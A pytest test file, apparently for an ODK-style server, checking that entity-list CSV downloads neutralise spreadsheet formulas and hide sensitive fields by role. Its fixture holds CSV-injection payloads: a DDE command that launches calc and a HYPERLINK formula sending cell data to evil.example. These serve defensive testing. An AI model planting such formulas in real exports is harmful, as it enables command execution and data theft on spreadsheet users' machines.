"""An entity list as people get it and as devices get it. People (analysts, viewers, protection
officers, managers) download it through `entities.csv` or as the form's attachment: every cell
is neutralised for spreadsheets, and roles without sensitive.read get neither the sensitive
properties (names, phone, date of birth) nor the name-built label, which becomes the case
number, as on every other entity route. Whoever may submit to the form (an app user over its
key URL, a data collector, a manager) gets ODK Collect's copy: byte for byte as stored, every
property, with the manifest's hash for its ETag."""

from __future__ import annotations

import csv
import io
import re
from uuid import uuid4

import pytest

from tests.security.inert import FORMULA
from tests.support.accounts import project_user
from tests.support.devices import make_device
from tests.support.entities import SENSITIVE
from tests.support.forms import XLSX
from tests.support.openrosa import OPENROSA
from tests.support.paths import FORMS

LABEL = '=HYPERLINK("http://evil.example/"&A1)\r\nAwa Traoré'
HOSTILE = {
    "first_name": "=cmd|' /C calc'!A0",
    "last_name": "@SUM(1+1)",
    "phone": "+22370000001",  # a phone number stays as it is
    "dob": "-2+3",
    "case_number": "=1+1\nKAY/2026/001",
    "region": "\t=kayes",
    "followup_count": "-4.5",  # a number stays a number
}
PLAIN = {"case_number": "KAY/2026/002", "first_name": "Moussa", "region": "sikasso"}


def publish(client, admin, project, name):
    response = client.post(
        f"/v1/projects/{project}/forms?publish=true&ignoreWarnings=true",
        content=(FORMS / f"{name}.xlsx").read_bytes(),
        headers={**admin, "Content-Type": XLSX},
    )
    assert response.status_code == 200, response.text


@pytest.fixture
def returnees(client, admin, project):
    """The programme's forms, a device for the follow-up, and two entities: one whose every
    cell is hostile (a CR in its label), one plain."""
    for name in ("reintegration_followup", "returnee_intake"):
        publish(client, admin, project, name)
    device = make_device(client, admin, project, ("reintegration_followup",))
    base = f"/v1/projects/{project}/datasets/returnees/entities"
    ids = [str(uuid4()), str(uuid4())]
    for uuid, label, data in ((ids[0], LABEL, HOSTILE), (ids[1], "Moussa Keita", PLAIN)):
        created = client.post(
            base, json={"uuid": uuid, "label": label, "data": data}, headers=admin
        )
        assert created.status_code == 200, created.text
    properties = [
        p["name"]
        for p in client.get(f"/v1/projects/{project}/datasets/returnees", headers=admin).json()[
            "properties"
        ]
    ]
    return device, ids, properties


def collect_copy(ids, properties) -> bytes:
    """What ODK Collect must get, written out by hand: csv's minimal quoting, "\\n" line ends,
    and a row holding a CR quoted whole."""

    def quoted(cells):
        return ",".join('"' + c.replace('"', '""') + '"' for c in cells) + "\n"

    header = ",".join(["name", "label", "__version", *properties]) + "\n"
    hostile = quoted([ids[0], LABEL, "1", *[HOSTILE.get(p, "") for p in properties]])
    plain = ",".join([ids[1], "Moussa Keita", "1", *[PLAIN.get(p, "") for p in properties]])
    return (header + hostile + plain + "\n").encode("utf-8")


def rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def assert_inert(body: bytes) -> None:
    for row in csv.reader(io.StringIO(body.decode("utf-8"), newline="")):
        for cell in row:
            assert not FORMULA.match(cell), cell


def manifest_hash(client, url, headers) -> str:
    manifest = client.get(url, headers={**headers, **OPENROSA})
    assert manifest.status_code == 200, manifest.text
    found = re.search(
        r"<filename>returnees\.csv</filename>\s*<hash>md5:(\w+)</hash>", manifest.text
    )
    assert found, manifest.text
    return found.group(1)


def test_devices_and_data_collectors_get_collects_copy_byte_for_byte(
    client, admin, project, returnees
):
    device, ids, properties = returnees
    expected = collect_copy(ids, properties)
    form = "forms/reintegration_followup"
    collector = project_user(client, admin, project, "collector@example.org", "data_collector")
    for base, headers in (
        (device.base, {}),  # an app user over its key URL, as Collect
        (f"/v1/projects/{project}", collector),
        (f"/v1/projects/{project}", admin),  # a manager may fill the form too
    ):
        listed = manifest_hash(client, f"{base}/{form}/manifest", headers)
        served = client.get(f"{base}/{form}/attachments/returnees.csv", headers=headers)
        assert served.status_code == 200, served.text
        assert served.content == expected
        assert served.headers["etag"] == f'"{listed}"'
        again = client.get(
            f"{base}/{form}/attachments/returnees.csv",
            headers={**headers, "If-None-Match": served.headers["etag"]},
        )
        assert again.status_code == 304


@pytest.mark.parametrize("role", ["analyst", "viewer"])
def test_analysts_and_viewers_get_neither_names_nor_formulas(
    client, admin, project, returnees, role
):
    _device, ids, properties = returnees
    person = project_user(client, admin, project, f"{role}@example.org", role)
    lists = f"/v1/projects/{project}/datasets/returnees/entities.csv"
    attachment = f"/v1/projects/{project}/forms/reintegration_followup/attachments/returnees.csv"
    listed = manifest_hash(
        client, f"/v1/projects/{project}/forms/reintegration_followup/manifest", person
    )
    for url in (lists, attachment):
        response = client.get(url, headers=person)
        assert response.status_code == 200, response.text
        assert response.headers["content-type"].startswith("text/csv")
        body = response.content
        assert_inert(body)
        found = rows(body)
        header = list(found[0])
        assert header == [
            "name",
            "label",
            "__version",
            *[p for p in properties if p not in SENSITIVE],
        ]
        for secret in ("Traoré", "calc", "SUM(1+1)", "+22370000001", "-2+3", "Moussa Keita"):
            assert secret not in body.decode("utf-8"), secret
        # The label is the case number (neutralised like every cell), as on /entities/{uuid}.
        assert [(r["name"], r["label"]) for r in found] == [
            (ids[0], "'=1+1\nKAY/2026/001"),
            (ids[1], "KAY/2026/002"),
        ]
        assert found[0]["region"] == "'\t=kayes"
        assert found[0]["followup_count"] == "-4.5"
    tagged = client.get(attachment, headers=person).headers["etag"]
    assert tagged != f'"{listed}"'  # not the devices' copy, so no cache serves one for the other


def test_protection_officers_get_every_property_neutralised(client, admin, project, returnees):
    _device, ids, properties = returnees
    officer = project_user(client, admin, project, "officer@example.org", "protection_officer")
    for url in (
        f"/v1/projects/{project}/datasets/returnees/entities.csv",
        f"/v1/projects/{project}/forms/reintegration_followup/attachments/returnees.csv",
    ):
        body = client.get(url, headers=officer).content
        assert_inert(body)
        found = rows(body)
        assert list(found[0]) == ["name", "label", "__version", *properties]
        assert found[0]["label"] == "'" + LABEL
        assert found[0]["first_name"] == "'" + HOSTILE["first_name"]
        assert found[0]["phone"] == HOSTILE["phone"]
        assert found[1]["label"] == "Moussa Keita"


def test_managers_download_people_copy_from_entities_csv(client, admin, project, returnees):
    """entities.csv is never Collect's copy: whoever downloads it opens it in a spreadsheet."""
    _device, ids, properties = returnees
    body = client.get(
        f"/v1/projects/{project}/datasets/returnees/entities.csv", headers=admin
    ).content
    assert_inert(body)
    assert rows(body)[0]["last_name"] == "'@SUM(1+1)"
    assert body != collect_copy(ids, properties)
